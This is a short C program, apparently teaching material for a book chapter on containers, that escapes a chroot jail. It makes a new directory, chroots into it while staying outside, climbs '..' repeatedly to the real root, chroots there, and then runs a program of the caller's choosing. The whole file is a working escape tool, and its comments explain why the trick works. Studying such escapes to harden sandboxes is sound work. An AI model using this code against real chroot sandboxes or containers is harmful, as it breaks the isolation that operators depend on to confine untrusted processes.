/* Walks out of a chroot, then becomes the program in its arguments. Chapter 4 breaks its container with this.
 *
 * The kernel stops .. at one directory only, the process's root. So a process that stands outside of its root
 * never meets it on the way up. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define DEEPEST_ROOT 64 /* more steps than any rootfs is deep; at the real root .. stays where it is */

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: escape PROGRAM [ARG...]\n");
        return 1;
    }
    /* The root becomes a directory below us. No chdir: we stay where we are, and that is outside now. */
    mkdir("below", 0700);
    if (chroot("below") < 0) {
        perror("escape: chroot below");
        return 1;
    }
    for (int step = 0; step < DEEPEST_ROOT; step++)
        if (chdir("..") < 0) {
            perror("escape: chdir ..");
            return 1;
        }
    /* Where there is no further up: make it the root again. */
    if (chroot(".") < 0) {
        perror("escape: chroot .");
        return 1;
    }
    execvp(argv[1], argv + 1);
    perror(argv[1]);
    return 1;
}
